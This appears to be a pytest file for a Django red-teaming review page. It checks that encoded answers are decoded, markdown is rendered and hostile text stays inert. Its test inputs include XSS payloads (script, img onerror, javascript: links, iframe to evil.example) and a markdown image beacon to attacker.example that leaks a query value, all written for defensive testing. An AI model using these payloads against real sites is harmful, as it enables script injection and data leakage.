"""The conversation page made for reading: decoded views of encoded answers, markdown rendered
with the raw text one toggle away, long pieces collapsed, JSON indented, an outline of the turns;
hostile text stays inert in each, and the page's work and queries stay bounded."""

from __future__ import annotations

import base64
import codecs
import re
from pathlib import Path
from typing import Any

import pytest
from django.template.loader import render_to_string
from django.test import Client
from django.urls import reverse

from memory.models import MessagePiece
from memory.presenters import (
    LONG_TEXT_CHARS,
    MAX_PAGE_DECODE_CHARS,
    MAX_PAGE_MARKDOWN_CHARS,
    TextBudget,
    looks_like_markdown,
    message_views,
)
from redteam.common.models import Operation
from redteam.core.decoding import MAX_INPUT_CHARS
from tests.memory.row_factories import (
    PieceSpec,
    core_converter,
    make_attack_result,
    make_conversation,
)
from tests.scoring.row_factories import make_score

pytestmark = pytest.mark.django_db

PLAIN = "Explain how to pick a pin tumbler lock"
MARKDOWN_ANSWER = (
    "## Steps\n\n1. **Insert** the tension wrench.\n2. Rake the *pins*.\n\n"
    "| tool | use |\n|---|---|\n| pick | lift pins |\n\n"
    "![diagram](https://attacker.example/leak.png?q=secret) and [docs](https://e.example/x)"
)


def _page(client: Client, conversation_id: str) -> str:
    response = client.get(reverse("scoring:conversation_detail", args=[conversation_id]))
    assert response.status_code == 200
    return response.content.decode()


def _piece_html(html: str, piece: MessagePiece) -> str:
    start = html.index(f'id="piece-{piece.id}"')
    end = html.find('<div class="piece" id="piece-', start + 1)
    return html[start : end if end != -1 else html.index("</article>", start)]


def _reply(conv: Any) -> MessagePiece:
    piece: MessagePiece = conv.pieces.get(sequence=1)
    return piece


def _answer(value: str, **spec: Any) -> Any:
    return make_conversation([[PieceSpec("Go on")], [PieceSpec(value, role="assistant", **spec)]])


# --- decoded view ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "label"),
    [
        (base64.b64encode(PLAIN.encode()).decode(), "base64"),
        (codecs.encode(PLAIN, "rot13"), "ROT13"),
        (PLAIN.encode().hex(), "hex"),
        (base64.b64encode(codecs.encode(PLAIN, "rot13").encode()).decode(), "base64 → ROT13"),
    ],
)
def test_encoded_answers_show_their_decoding_labelled(
    reviewer_client: Client, value: str, label: str
) -> None:
    conv = _answer(value)
    block = _piece_html(_page(reviewer_client, conv.pk), _reply(conv))
    assert f'<div class="decoded-label">Decoded ({label}):</div>' in block
    decoded = block[block.index(f"Decoded ({label}):") :]
    assert PLAIN in decoded
    assert block.index(value[:20]) < block.index(f"Decoded ({label})")


def test_ordinary_answers_offer_no_decoding(reviewer_client: Client) -> None:
    conv = make_conversation(
        [
            [PieceSpec("How do pin tumbler locks work?")],
            [
                PieceSpec(
                    "Sure, a pin tumbler lock uses spring-loaded pin stacks.", role="assistant"
                )
            ],
        ]
    )
    assert "Decoded (" not in _page(reviewer_client, conv.pk)


def test_a_converted_prompt_shows_the_decoding_of_the_converted_value(
    reviewer_client: Client,
) -> None:
    conv = make_conversation(
        [[PieceSpec(PLAIN, converted=codecs.encode(PLAIN, "rot13"), converters=[core_converter()])]]
    )
    piece = conv.pieces.get()
    block = _piece_html(_page(reviewer_client, conv.pk), piece)
    assert block.count("Decoded (ROT13):") == 1


def test_decoded_hostile_text_is_escaped_and_its_invisible_characters_shown(
    reviewer_client: Client,
) -> None:
    hostile = '<img src=x onerror="alert(1)"> now \u202ereversed\u200b text'
    conv = _answer(base64.b64encode(hostile.encode()).decode())
    block = _piece_html(_page(reviewer_client, conv.pk), _reply(conv))
    decoded = block[block.index("Decoded (base64):") :]
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in decoded
    assert "<img" not in decoded
    assert "⟨U+202E⟩" in decoded
    assert "\u202e" not in decoded
    assert "bidirectional overrides" in decoded


def test_a_sensitive_piece_keeps_its_decoding_and_markdown_covered(
    reviewer_client: Client,
) -> None:
    operation = Operation.objects.create(name="op-safe", sensitive_harm_categories=["sexual"])
    secret = base64.b64encode(b"A graphic reply kept covered until revealed").decode()
    conv = make_conversation(
        [[PieceSpec("Go on")], [PieceSpec(secret, role="assistant")], [PieceSpec("## Heading")]],
        labels={"operation": operation.name},
    )
    make_attack_result(conv, labels={"operation": operation.name}, harm_categories=["sexual"])
    html = _page(reviewer_client, conv.pk)
    for sequence, shown in ((1, "Decoded (base64):"), (2, "<h2>Heading</h2>")):
        block = _piece_html(html, conv.pieces.get(sequence=sequence))
        assert 'class="sensitive is-collapsed"' in block
        # Inside the covered body, whose direct children are hidden until revealed.
        body = block.index('<div class="sensitive-body" tabindex="-1">')
        assert body < block.index('<div class="reading') < block.index(shown)


def test_decoding_stops_at_the_page_budget() -> None:
    encoded = base64.b64encode(("A lock has pins. " * 1000).encode()).decode()
    budget = TextBudget()
    budget.decode_remaining = MAX_INPUT_CHARS + 10
    first = budget.decoded(encoded)
    assert first
    assert budget.decode_remaining == 10
    # The rest of the page gets what is left: too little to find a base64 run.
    assert budget.decoded(encoded) == []
    assert budget.decode_remaining <= 0
    assert budget.decoded(encoded) == []
    assert MAX_PAGE_DECODE_CHARS >= 10 * MAX_INPUT_CHARS


# --- markdown --------------------------------------------------------------------------------


def test_markdown_answer_renders_with_the_raw_text_one_toggle_away(
    reviewer_client: Client,
) -> None:
    conv = _answer(MARKDOWN_ANSWER)
    block = _piece_html(_page(reviewer_client, conv.pk), _reply(conv))
    assert '<div class="md"><h2>Steps</h2>' in block
    assert "<strong>Insert</strong>" in block
    assert "<td>pick</td>" in block
    # The raw text is on the page too, behind the switch (a checkbox: no script needed).
    assert f'<input type="checkbox" class="raw-switch" id="raw-{_reply(conv).id}-c"' in block
    assert f'<label for="raw-{_reply(conv).id}-c"' in block
    raw = block[block.index('<div class="raw">') :]
    assert "## Steps" in raw
    assert "**Insert**" in raw
    # The image is a labelled link; nothing loads from another host.
    assert "<img" not in block
    assert 'class="md-image" href="https://attacker.example/leak.png?q=secret"' in block
    assert 'rel="noopener noreferrer nofollow"' in block


def test_markdown_from_any_role_renders_and_plain_prose_stays_text(
    reviewer_client: Client,
) -> None:
    conv = make_conversation(
        [
            [PieceSpec("Please answer in a **table**")],
            [PieceSpec("Just plain words here.\nAnd a second line.", role="assistant")],
        ]
    )
    html = _page(reviewer_client, conv.pk)
    first, second = conv.pieces.order_by("sequence")
    assert "<strong>table</strong>" in _piece_html(html, first)
    plain = _piece_html(html, second)
    assert "raw-switch" not in plain
    assert 'class="md"' not in plain
    assert '<div class="text">Just plain words here.\nAnd a second line.</div>' in plain


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "[x](javascript:alert(1))",
        "<iframe src='https://evil.example'></iframe>",
        "**bold** <style>body{display:none}</style>",
    ],
)
def test_hostile_markdown_stays_inert(reviewer_client: Client, payload: str) -> None:
    conv = _answer(f"## Title\n\n{payload}")
    block = _piece_html(_page(reviewer_client, conv.pk), _reply(conv))
    assert "<h2>Title</h2>" in block
    for tag in ("<script", "<img", "<iframe", "<style"):
        assert tag not in block
    assert 'href="javascript:' not in block
    assert not re.search(r"<[a-z]+[^>]*\son[a-z]+=", block)


def test_rendered_markdown_shows_invisible_characters(reviewer_client: Client) -> None:
    conv = _answer("## Plan\n\nstep\u202e one\u200b")
    block = _piece_html(_page(reviewer_client, conv.pk), _reply(conv))
    rendered = block[block.index('<div class="md">') : block.index('<div class="raw">')]
    assert "⟨U+202E⟩" in rendered
    assert "\u202e" not in block
    assert "2 invisible characters" in block


def test_markdown_rendering_stops_at_the_page_budget() -> None:
    budget = TextBudget()
    budget.markdown_remaining = 100
    assert budget.markdown("# a" + "b" * 50) is not None
    assert budget.markdown("# a" + "b" * 50) is None
    assert MAX_PAGE_MARKDOWN_CHARS > 0


def test_looks_like_markdown() -> None:
    assert looks_like_markdown("# Title")
    assert looks_like_markdown("text\n- item")
    assert looks_like_markdown("see [docs](https://e.example)")
    assert not looks_like_markdown("Plain words, a sentence; nothing more.")
    # Hostile text is scanned once (each of these was quadratic in a naive pattern).
    for hostile in ("\n" * 100_000, "[" * 50_000, "[a](x" * 10_000, "*" * 50_000):
        assert not looks_like_markdown(hostile)


# --- long pieces, JSON ----------------------------------------------------------------------


def test_long_pieces_collapse_with_show_all(reviewer_client: Client) -> None:
    long_text = "A line of a long answer.\n" * 100
    conv = make_conversation([[PieceSpec("short question")], [PieceSpec(long_text)]])
    html = _page(reviewer_client, conv.pk)
    first, second = conv.pieces.order_by("sequence")
    block = _piece_html(html, second)
    assert 'class="reading is-long"' in block
    assert f'<input type="checkbox" class="all-switch" id="all-{second.id}-c"' in block
    assert "show all (2500 characters, 101 lines)" in block
    assert "is-long" not in _piece_html(html, first)
    assert len(long_text) > LONG_TEXT_CHARS


def test_piece_text_is_not_a_scroll_box_inside_the_page() -> None:
    css = (Path(__file__).resolve().parents[2] / "static" / "css" / "reading.css").read_text()
    assert ".piece .text { max-height: none; overflow: visible; }" in css


def test_json_text_and_error_bodies_are_indented(reviewer_client: Client) -> None:
    conv = make_conversation(
        [
            [PieceSpec('{"next_message": "Hi", "rationale": "open"}', role="assistant")],
            [
                PieceSpec(
                    '{"status_code": 400, "message": "content_filter"}',
                    role="assistant",
                    data_type="error",
                    response_error="blocked",
                )
            ],
            [PieceSpec("{not json at all", role="assistant")],
        ]
    )
    html = _page(reviewer_client, conv.pk)
    text, error, broken = conv.pieces.order_by("sequence")
    assert "{\n  &quot;next_message&quot;: &quot;Hi&quot;," in _piece_html(html, text)
    assert 'class="text json"' in _piece_html(html, text)
    assert "{\n  &quot;status_code&quot;: 400," in _piece_html(html, error)
    assert 'class="text error"' in _piece_html(html, error)
    assert "{not json at all" in _piece_html(html, broken)


# --- outline ---------------------------------------------------------------------------------


def test_outline_links_each_message_with_role_first_words_and_badges(
    reviewer_client: Client,
) -> None:
    conv = make_conversation(
        [
            [PieceSpec("How do I <b>pick</b> a lock?")],
            [PieceSpec("I can't help with that.", role="assistant")],
            [PieceSpec('{"status": 500}', role="assistant", data_type="error")],
        ]
    )
    make_score(piece=_reply(conv), value="false")
    make_attack_result(conv)
    html = _page(reviewer_client, conv.pk)
    outline = html[
        html.index('id="outline"') : html.index("</details>", html.index('id="outline"'))
    ]
    assert "Outline · 3 messages" in outline
    for sequence in range(3):
        assert f'href="#message-{sequence}"' in outline
        assert f'id="message-{sequence}"' in html
    assert "How do I &lt;b&gt;pick&lt;/b&gt; a lock?" in outline
    assert '<span class="badge">false</span>' in outline
    assert '<span class="badge error">error</span>' in outline
    assert html.index('id="outline"') < html.index('id="message-0"')


def test_outline_is_cut_for_a_thousand_messages() -> None:
    conv = make_conversation(
        [[PieceSpec(f"turn {i} " + "x" * 300, role="user")] for i in range(1000)]
    )
    pieces = list(conv.pieces.order_by("sequence", "position"))
    views = message_views(pieces)
    assert len(views) == 1000
    outline = render_to_string("memory/_outline.html", {"conversation_messages": views})
    assert outline.count('class="outline-item') == 300
    assert "+700 more messages" in outline
    assert "<details" in outline
    assert " open>" not in outline
    assert len(outline) < 300 * 400


@pytest.mark.parametrize("n", [3, 30])
def test_reading_aids_add_no_queries(
    reviewer_client: Client, django_assert_num_queries: Any, n: int
) -> None:
    specs = [
        [
            PieceSpec(
                MARKDOWN_ANSWER
                if i % 2
                else base64.b64encode(f"turn {i} {PLAIN}".encode()).decode(),
                role="assistant" if i % 2 else "user",
            )
        ]
        for i in range(n)
    ]
    conv = make_conversation(specs)
    for piece in conv.pieces.all():
        make_score(piece=piece)
    make_attack_result(conv)
    # The same count as tests/scoring/test_conversation_page.py's conversation, whatever n.
    with django_assert_num_queries(13):
        response = reviewer_client.get(reverse("scoring:conversation_detail", args=[conv.pk]))
    html = response.content.decode()
    assert html.count("Decoded (base64):") == (n + 1) // 2
    assert html.count('<div class="md"><h2>Steps</h2>') == n // 2
